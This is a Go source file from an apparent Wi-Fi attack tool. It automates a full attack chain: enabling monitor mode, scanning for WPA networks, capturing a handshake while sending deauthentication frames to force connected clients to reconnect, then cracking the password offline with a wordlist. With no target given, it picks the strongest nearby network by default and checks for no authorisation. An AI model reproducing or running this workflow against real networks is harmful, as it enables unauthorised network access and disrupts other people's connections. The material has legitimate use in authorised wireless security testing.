// Package crack composes the interface controller, network scanner, capture
// manager and cracking manager into the handshake-capture-and-crack
// automation, the Go counterpart of wifi_crack_automation/main.py's four
// phases (select interface, scan, capture handshake, crack). Unlike the
// Evil Twin workflow it never touches hostapd/dnsmasq/iptables: it only
// observes a target network and attacks its captured handshake offline.
package crack

import (
	"context"
	"errors"
	"fmt"
	"sort"
	"time"

	"github.com/nexusdevtools/capgate/internal/core/domain"
	"github.com/nexusdevtools/capgate/internal/core/ports"
	"github.com/nexusdevtools/capgate/internal/core/runctx"
	"github.com/nexusdevtools/capgate/internal/logging"
	"github.com/nexusdevtools/capgate/internal/telemetry"
)

const (
	PhaseInterfaceSelect = "P1"
	PhaseScan            = "P2"
	PhaseCapture         = "P3"
	PhaseCrack           = "P4"
	PhaseTeardown        = "T"
)

// Options configures one crack run.
type Options struct {
	Interface      string // CLI interface; empty triggers auto-selection
	AutoSelect     bool
	TargetBSSID    string
	ScanDuration   time.Duration // default 15s
	SecurityFilter string        // default "WPA"
	CaptureWindow  time.Duration // default 30s
	DeauthCount    int           // default 5
	Wordlist       string        // name passed to CrackingManager.FindWordlist
	CapturePrefix  string        // output-file prefix, default "/tmp/capgate-capture"
}

func (o *Options) applyDefaults() {
	if o.ScanDuration == 0 {
		o.ScanDuration = 15 * time.Second
	}
	if o.SecurityFilter == "" {
		o.SecurityFilter = "WPA"
	}
	if o.CaptureWindow == 0 {
		o.CaptureWindow = 30 * time.Second
	}
	if o.DeauthCount == 0 {
		o.DeauthCount = 5
	}
	if o.CapturePrefix == "" {
		o.CapturePrefix = "/tmp/capgate-capture"
	}
}

// Result is the outcome of one crack run.
type Result struct {
	FinalPhase string
	BSSID      string
	ESSID      string
	Channel    int
	Artifact   domain.CaptureArtifact
	Crack      domain.CrackResult
	Err        error
}

// Workflow composes the adapters a crack run needs.
type Workflow struct {
	Interfaces ports.InterfaceController
	Scanner    ports.NetworkScanner
	Capture    ports.CaptureManager
	Cracking   ports.CrackingManager
	Events     ports.EventLog

	log *logging.Logger
}

// New returns a Workflow wired to the given adapters.
func New(interfaces ports.InterfaceController, scanner ports.NetworkScanner, capture ports.CaptureManager, cracking ports.CrackingManager, events ports.EventLog) *Workflow {
	return &Workflow{
		Interfaces: interfaces,
		Scanner:    scanner,
		Capture:    capture,
		Cracking:   cracking,
		Events:     events,
		log:        logging.Component("crack"),
	}
}

// Run drives interface selection, scan, capture, and crack in sequence,
// restoring the monitor interface to its prior state on every exit path.
func (w *Workflow) Run(ctx context.Context, rc *runctx.RunContext, opts Options) Result {
	opts.applyDefaults()
	result := Result{FinalPhase: PhaseInterfaceSelect}

	w.enterPhase(ctx, rc, PhaseInterfaceSelect)
	iface, err := w.selectInterface(rc, opts)
	if err != nil {
		result.Err = fmt.Errorf("%w: %v", domain.ErrWorkflowAborted, err)
		return result
	}

	monitorIface, err := w.Interfaces.EnableMonitorMode(ctx, iface)
	if err != nil {
		result.Err = fmt.Errorf("enable monitor mode: %w", err)
		return result
	}
	defer func() {
		teardownCtx := context.Background()
		w.enterPhase(teardownCtx, rc, PhaseTeardown)
		if err := w.Interfaces.RestoreInterfaceState(teardownCtx, iface); err != nil {
			w.log.Warn("restore interface state failed: %v", err)
			telemetry.TeardownFailures.WithLabelValues("crack", "restore_interface").Inc()
		}
	}()

	w.enterPhase(ctx, rc, PhaseScan)
	bssid, essid, channel, err := w.scanForTarget(ctx, monitorIface, opts)
	if err != nil {
		result.Err = fmt.Errorf("%w: %v", domain.ErrWorkflowAborted, err)
		return result
	}
	result.BSSID, result.ESSID, result.Channel = bssid, essid, channel

	w.enterPhase(ctx, rc, PhaseCapture)
	artifact, err := w.captureHandshake(ctx, monitorIface, bssid, channel, opts)
	if err != nil {
		result.Err = fmt.Errorf("%w: %v", domain.ErrWorkflowAborted, err)
		return result
	}
	result.Artifact = artifact

	w.enterPhase(ctx, rc, PhaseCrack)
	if !artifact.HandshakeSeen {
		w.log.Warn("no handshake observed in %s, attempting crack anyway", artifact.CapFile)
	}
	wordlistPath, err := w.Cracking.FindWordlist(ctx, opts.Wordlist)
	if err != nil {
		result.Err = fmt.Errorf("find wordlist: %w", err)
		return result
	}
	crackResult, err := w.Cracking.Crack(ctx, artifact.CapFile, bssid, wordlistPath)
	if err != nil {
		result.Err = fmt.Errorf("crack: %w", err)
		return result
	}
	result.Crack = crackResult

	outcome := "not_found"
	if crackResult.Found {
		outcome = "found"
	}
	telemetry.CredentialVerifications.WithLabelValues("crack", outcome).Inc()
	w.emit(ctx, rc, domain.EventKindWorkflowComplete, "crack", map[string]any{"found": crackResult.Found, "bssid": bssid})

	return result
}

func (w *Workflow) selectInterface(rc *runctx.RunContext, opts Options) (string, error) {
	ifaces := rc.State().GetInterfaces()
	var candidates []domain.Interface
	for _, i := range ifaces {
		if i.IsWireless && i.IsUp && i.SupportsMonitor {
			candidates = append(candidates, i)
		}
	}
	sort.Slice(candidates, func(a, b int) bool { return candidates[a].Name < candidates[b].Name })

	if opts.Interface != "" {
		for _, i := range candidates {
			if i.Name == opts.Interface {
				return i.Name, nil
			}
		}
		if !opts.AutoSelect {
			return "", fmt.Errorf("%w: %s lacks monitor capability or is not up", domain.ErrInterfaceNotFound, opts.Interface)
		}
	}
	if len(candidates) == 0 {
		return "", errors.New("no monitor-capable wireless interface found")
	}
	return candidates[0].Name, nil
}

func (w *Workflow) scanForTarget(ctx context.Context, monitorIface string, opts Options) (bssid, essid string, channel int, err error) {
	result, err := w.Scanner.Scan(ctx, monitorIface, int(opts.ScanDuration.Seconds()), opts.SecurityFilter)
	if err != nil {
		return "", "", 0, fmt.Errorf("scan: %w", err)
	}
	if len(result.AccessPoints) == 0 {
		return "", "", 0, errors.New("no networks found during scan")
	}

	if opts.TargetBSSID != "" {
		for _, candidate := range result.AccessPoints {
			if candidate.BSSID == opts.TargetBSSID {
				return candidate.BSSID, candidate.ESSID, candidate.Channel, nil
			}
		}
		return "", "", 0, fmt.Errorf("target bssid %s not found in scan results", opts.TargetBSSID)
	}

	sort.Slice(result.AccessPoints, func(a, b int) bool { return result.AccessPoints[a].Power > result.AccessPoints[b].Power })
	top := result.AccessPoints[0]
	return top.BSSID, top.ESSID, top.Channel, nil
}

func (w *Workflow) captureHandshake(ctx context.Context, monitorIface, bssid string, channel int, opts Options) (domain.CaptureArtifact, error) {
	if _, err := w.Capture.StartCapture(ctx, monitorIface, bssid, channel, opts.CapturePrefix); err != nil {
		return domain.CaptureArtifact{}, fmt.Errorf("start capture: %w", err)
	}

	// A deauth burst partway through the capture window nudges already
	// associated clients into re-handshaking, the same role continuous
	// deauth would play in a longer-running attack; a single burst is
	// enough for the common case of one already-connected client.
	half := opts.CaptureWindow / 2
	select {
	case <-time.After(half):
	case <-ctx.Done():
	}
	deauthCtx, cancel := context.WithTimeout(ctx, opts.CaptureWindow-half)
	_ = w.Capture.Deauth(deauthCtx, monitorIface, bssid, "", opts.DeauthCount)
	cancel()

	select {
	case <-time.After(opts.CaptureWindow - half):
	case <-ctx.Done():
	}

	return w.Capture.StopCapture(ctx)
}

func (w *Workflow) enterPhase(ctx context.Context, rc *runctx.RunContext, phase string) {
	telemetry.WorkflowPhaseTransitions.WithLabelValues("crack", phase).Inc()
	w.emit(ctx, rc, domain.EventKindPhaseEnter, phase, nil)
}

func (w *Workflow) emit(ctx context.Context, rc *runctx.RunContext, kind, message string, fields map[string]any) {
	if w.Events == nil {
		return
	}
	ev := domain.Event{RunID: rc.ID(), Time: time.Now(), Component: "crack", Kind: kind, Message: message, Fields: fields}
	_ = w.Events.Append(ctx, ev)
}
